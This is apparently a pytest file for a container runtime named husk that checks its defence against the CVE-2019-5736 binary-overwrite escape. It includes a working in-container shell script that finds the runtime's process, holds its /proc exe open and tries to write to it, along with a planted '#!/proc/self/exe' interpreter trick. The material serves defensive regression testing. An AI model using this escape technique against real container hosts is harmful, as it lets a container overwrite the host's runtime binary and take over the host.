"""CVE-2019-5736 through a script whose interpreter is /proc/self/exe.

A container plants a script starting `#!/proc/self/exe`: when husk's
process execs it (the program of `husk exec`, or process.args of
create/run), the kernel runs husk's own binary again as the script's
interpreter, inside the container and dumpable (execve resets
PR_SET_DUMPABLE), so a container process can open /proc/<pid>/exe, wait
until nothing runs the binary and write to it.  The interpreter line makes
that husk block: `--log=FIFO` opens a fifo of the container's for writing
(under /dev: husk opens a --log path there as it is, a file elsewhere),
which waits for a reader, so the attacker has all the time it needs.

The defence (src/linux/selfexe.c): create, run, exec and launch re-execute
husk from a detached read-only overlay (or a sealed memfd copy) of its
binary first, so what the container reaches is read-only whatever its
capabilities and user namespace.  Each test attacks a private copy of the
runtime and checks that copy's sha256.
"""

import contextlib
import fcntl
import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from conftest import HUSK, IS_RUNC, bind, ns_id, wait_for
from test_escapes import call_with, init_pid, private_runtime, sha256

# Finds a process that runs something other than busybox, keeps its exe
# open, lets it go (reads the fifo it blocks on) and writes through the
# kept fd once nothing runs the binary any more.
ATTACKER = r"""
log=/mnt/rw/log
i=0
while [ $i -lt 1500 ]; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    [ "$p" = "$$" ] && continue
    l=$(readlink $d/exe 2>/dev/null) || continue
    case "$l" in /bin/busybox|"") continue;; esac
    grep -q fifo $d/cmdline 2>/dev/null || continue
    echo "seen $p $l" >> $log
    if { true < $d/exe; } 2>/dev/null; then
      exec 3< $d/exe
      echo "opened $p" >> $log
    fi
    timeout 5 cat /dev/hk/fifo > /mnt/rw/fifo.out
    j=0
    while [ $j -lt 100 ]; do
      if [ -e /proc/self/fd/3 ] && { echo HK-PWNED >> /proc/self/fd/3; } 2>/dev/null; then
        echo wrote >> $log
        break
      fi
      j=$((j+1))
      sleep 0.05
    done
    echo done >> $log
    sleep 1000
  done
  i=$((i+1))
  sleep 0.01
done
echo timeout >> $log
sleep 1000
"""


def _shared_dir(hk):
    shared = hk.dir("shared")
    os.mkfifo(shared / "fifo")
    (shared / "log").touch()
    pwn = shared / "pwn"
    pwn.write_text("#!/proc/self/exe --log=/dev/hk/fifo\n")
    pwn.chmod(0o755)
    return shared


def _attacker_bundle(hk, shared, caps=()):
    b = hk.bundle(["sh", "-c", ATTACKER],
                  extra_mounts=[bind(shared, "/mnt/rw"), bind(shared, "/dev/hk")])
    for k in ("bounding", "effective", "permitted"):
        b.config["process"]["capabilities"][k] += list(caps)
    b.write()
    return b


def _verdict(rt, before, shared):
    """The binary is unchanged.  husk runs the interpreter (the kernel
    does), so the attack must have seen it; runc 1.1's execve of such a
    script fails with ENOENT (its memfd copy cannot be opened again as an
    interpreter), so there may be nothing to see."""
    log = shared / "log"
    try:
        if IS_RUNC and "seen" not in log.read_text():
            time.sleep(2)
        if not IS_RUNC or "seen" in log.read_text():
            wait_for(lambda: "done" in log.read_text(), 15, what="the attacker to finish")
    finally:
        text = log.read_text()
        print(f"attacker's log:\n{text}")
    assert IS_RUNC or "seen" in text, f"the attack never saw the interpreter run:\n{text}"
    assert sha256(rt) == before, f"runtime copy overwritten:\n{text}"
    assert "wrote" not in text, text
    return text


@pytest.mark.parametrize("caps", [(), ("CAP_SYS_PTRACE", "CAP_SYS_ADMIN")],
                         ids=["default-caps", "ptrace-admin"])
def test_shebang_exec(hk, caps):
    """`husk exec C /mnt/rw/pwn`: the exec'd process runs husk again."""
    rt = private_runtime(hk)
    before = sha256(rt)
    shared = _shared_dir(hk)
    b = _attacker_bundle(hk, shared, caps)
    cid = hk.track(hk.new_id())
    rc, _, err = call_with(rt, hk, "run", "--detach", "--bundle", b.path, cid)
    assert rc == 0, err
    rc, out, err = call_with(rt, hk, "exec", cid, "/mnt/rw/pwn", timeout=30)
    text = _verdict(rt, before, shared)
    assert IS_RUNC or "opened" in text, f"the interpreter's exe was not even readable:\n{text}"


@pytest.mark.parametrize("how", ["run", "create-start"])
def test_shebang_process_args(hk, how):
    """process.args[0] is the script: the container's first process runs husk
    again.  The attacker is a second container whose pid namespace the
    victim joins (so it outlives the victim's process)."""
    rt = private_runtime(hk)
    before = sha256(rt)
    shared = _shared_dir(hk)
    att = _attacker_bundle(hk, shared)
    acid = hk.track(hk.new_id())
    rc, _, err = call_with(rt, hk, "run", "--detach", "--bundle", att.path, acid)
    assert rc == 0, err
    apid = init_pid(hk, acid)
    victim = hk.bundle(["/mnt/rw/pwn"],
                       extra_mounts=[bind(shared, "/mnt/rw"), bind(shared, "/dev/hk")],
                       namespaces=[{"type": "pid", "path": f"/proc/{apid}/ns/pid"},
                                   "network", "ipc", "uts", "mount"])
    vcid = hk.track(hk.new_id())
    if how == "run":
        rc, _, err = call_with(rt, hk, "run", "--detach", "--bundle", victim.path, vcid)
        assert rc == 0 or IS_RUNC, err
    else:
        rc, _, err = call_with(rt, hk, "create", "--bundle", victim.path, vcid)
        assert rc == 0, err
        rc, _, err = call_with(rt, hk, "start", vcid)
    assert rc == 0 or IS_RUNC, err
    _verdict(rt, before, shared)


@pytest.mark.skipif(IS_RUNC, reason="husk's view of its own binary")
def test_view_is_read_only_overlay(hk):
    """The process husk puts in a container runs from a read-only overlay
    (not the binary's own file), so its exe reads as such; and the binary's
    companions (husk-net, husk-launch, husk-init) are still found next to
    the original."""
    b = hk.bundle(["sleep", "1000"])
    cid = hk.create(b)
    pid = init_pid(hk, cid)
    st = os.statvfs(f"/proc/{pid}/exe")
    assert st.f_flag & os.ST_RDONLY, "the created process runs a writable binary"
    assert os.stat(f"/proc/{pid}/exe").st_dev != os.stat(HUSK).st_dev
    with pytest.raises(OSError) as e:
        open(f"/proc/{pid}/exe", "ab")
    assert e.value.errno == 30, e.value  # EROFS
    r = hk.call("--debug", "exec", cid, "true")
    assert r.rc == 0, str(r)
    assert "re-executing from a read-only overlay" in r.err, r.err


@pytest.mark.skipif(IS_RUNC, reason="husk's view of its own binary")
def test_unprivileged_caller_of_roots_binary_pays_nothing(hk, tmp_path):
    """An ordinary user running root's husk cannot write it, nor can the
    container's ids: no re-execution (and no memfd copy)."""
    r = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                        HUSK, "--debug", "--root", str(tmp_path / "none"), "create",
                        "--bundle", str(tmp_path), "x"],
                       capture_output=True, text=True, timeout=20)
    assert "husk: debug:" in r.stderr, r.stderr
    assert "re-executing" not in r.stderr, r.stderr


@contextlib.contextmanager
def _two_overlays_deep(hk):
    """A copy of husk's binaries two overlays deep, the kernel's limit, so
    that overlayfs cannot stack over the binary's directory and husk runs
    from a sealed memfd copy; yields the copy of husk."""
    base = hk.dir("stack")
    lower = base / "lower"
    lower.mkdir()
    for name in ("husk", "husk-init", "husk-net", "husk-launch"):
        src = Path(HUSK).parent / name
        if src.exists():
            shutil.copy2(src, lower / name)
    mounted = []
    try:
        prev = lower
        for level in (1, 2):
            up, work, merged = (base / f"{n}{level}" for n in ("upper", "work", "merged"))
            for d in (up, work, merged):
                d.mkdir()
            subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
                            f"lowerdir={prev},upperdir={up},workdir={work}", str(merged)],
                           check=True, timeout=10)
            mounted.append(merged)
            prev = merged
        yield prev / "husk"
    finally:
        for m in reversed(mounted):
            # lazily where a failed test left a container running from it
            if subprocess.run(["umount", str(m)], timeout=10).returncode != 0:
                subprocess.run(["umount", "-l", str(m)], timeout=10)


@pytest.mark.skipif(IS_RUNC, reason="husk's view of its own binary")
def test_memfd_fallback_when_no_overlay(hk):
    """Where overlayfs cannot stack over the binary's directory (here: the
    binary sits two overlays deep, the kernel's limit), husk runs from a
    sealed memfd copy instead: still not writable, companions still found."""
    with _two_overlays_deep(hk) as rt:
        b = hk.bundle(["sleep", "1000"])
        cid = hk.track(hk.new_id())
        rc, _, err = call_with(rt, hk, "--debug", "create", "--bundle", b.path, cid)
        assert rc == 0, err
        assert "re-executing from a sealed memfd copy" in err, err
        pid = init_pid(hk, cid)
        assert os.readlink(f"/proc/{pid}/exe").startswith("/memfd:husk")
        fd = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
        try:
            seals = fcntl.fcntl(fd, fcntl.F_GET_SEALS)
        finally:
            os.close(fd)
        assert seals & fcntl.F_SEAL_WRITE and seals & fcntl.F_SEAL_SEAL, seals
        rc, _, err = call_with(rt, hk, "delete", "--force", cid)
        assert rc == 0, err


@pytest.mark.parametrize("where", ["in-place", "two-overlays-deep"])
def test_exec_user_and_group_of_a_sealed_husk(hk, where):
    """exec --user UID:GID of a husk that re-executes itself (issue 16 A7:
    the re-exec took its arguments from /proc/self/cmdline after the option
    parser had cut "1000:1000" at the colon: "container 1000 does not
    exist"). Before it ran from a read-only view, husk re-executed from a
    sealed copy for containers holding CAP_SYS_PTRACE; two overlays deep it
    still runs from the sealed copy."""
    if where != "in-place" and IS_RUNC:
        pytest.skip("husk's view of its own binary")
    with contextlib.ExitStack() as stack:
        rt = Path(HUSK) if where == "in-place" else stack.enter_context(_two_overlays_deep(hk))
        b = hk.bundle(["sleep", "1000"])
        for kind in ("bounding", "effective", "permitted"):
            b.config["process"]["capabilities"][kind].append("CAP_SYS_PTRACE")
        b.write()
        cid = hk.track(hk.new_id())
        rc, _, err = call_with(rt, hk, "run", "-d", "--bundle", b.path, cid)
        assert rc == 0, err
        try:
            rc, out, err = call_with(rt, hk, "--debug", "exec", "--user", "1000:1000", cid,
                                     "sh", "-c", "id -u; id -g")
            if where != "in-place":
                assert "re-executing from a sealed memfd copy" in err, err
            assert rc == 0 and out.split() == ["1000", "1000"], (rc, out, err)
        finally:
            rc, _, err = call_with(rt, hk, "delete", "--force", cid)
        assert rc == 0, err
